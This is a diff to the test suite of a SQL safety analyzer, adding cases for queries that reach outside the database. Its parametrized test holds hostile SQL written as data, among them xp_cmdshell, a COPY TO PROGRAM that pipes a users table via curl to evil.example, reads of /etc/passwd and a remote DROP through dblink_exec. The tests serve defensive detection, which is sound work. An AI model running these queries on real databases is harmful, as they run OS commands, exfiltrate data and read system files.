@@ -200,6 +200,38 @@ def test_mysql_multi_table_delete_filtered_by_join() -> None:
     assert analysis.writes and not analysis.destructive
 
 
+# --- reaching outside the database --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("sql", "dialect", "rule", "verdict"),
+    [
+        ("EXEC xp_cmdshell 'whoami'", "tsql", "sql.os_command", "block"),
+        ("COPY users TO PROGRAM 'curl -d @- evil.example'", "postgres", "sql.os_command", "block"),
+        ("COPY users FROM '/etc/passwd'", "postgres", "sql.file_access", "ask"),
+        ("SELECT pg_read_file('/etc/passwd')", "postgres", "sql.dangerous_function", "block"),
+        ("SELECT LOAD_FILE('/etc/passwd')", "mysql", "sql.dangerous_function", "block"),
+        ("SELECT * FROM t WHERE id = (SELECT dblink_exec('host=10.0.0.1', 'DROP TABLE x'))", "postgres",
+         "sql.dangerous_function", "block"),
+        ("EXEC dbo.refresh_stats", "tsql", "sql.exec_procedure", "ask"),
+    ],
+)  # fmt: skip
+def test_reaching_outside_the_database(sql: str, dialect: str, rule: str, verdict: str) -> None:
+    analysis = analyze_sql(sql, dialect)
+    assert (rule, verdict) in {(f.rule, f.verdict) for f in analysis.findings}
+    assert not analysis.destructive  # dangerous, but it destroys no data by itself
+
+
+def test_bulk_load_from_client_is_not_file_access() -> None:
+    analysis = analyze_sql("COPY users FROM STDIN", "postgres")
+    assert analysis.writes and analysis.findings == ()
+
+
+def test_exec_procedure_is_a_write_and_not_a_table() -> None:
+    analysis = analyze_sql("EXEC dbo.refresh_stats", "tsql")
+    assert analysis.writes and analysis.to_fact()["tables"] == []
+
+
 # --- dialects and unparsed input ----------------------------------------------------------------------
 
 
@@ -304,4 +336,5 @@ def test_random_text_never_raises(text: str, dialect: str | None) -> None:
 @given(st.lists(_SQL_ALPHABET, max_size=30).map(" ".join))
 def test_random_sql_like_tokens_never_raise(text: str) -> None:
     analysis = analyze_sql(text)
-    assert analysis.destructive == any(f.verdict == "block" for f in analysis.findings)
+    if analysis.destructive:
+        assert any(f.verdict == "block" for f in analysis.findings)
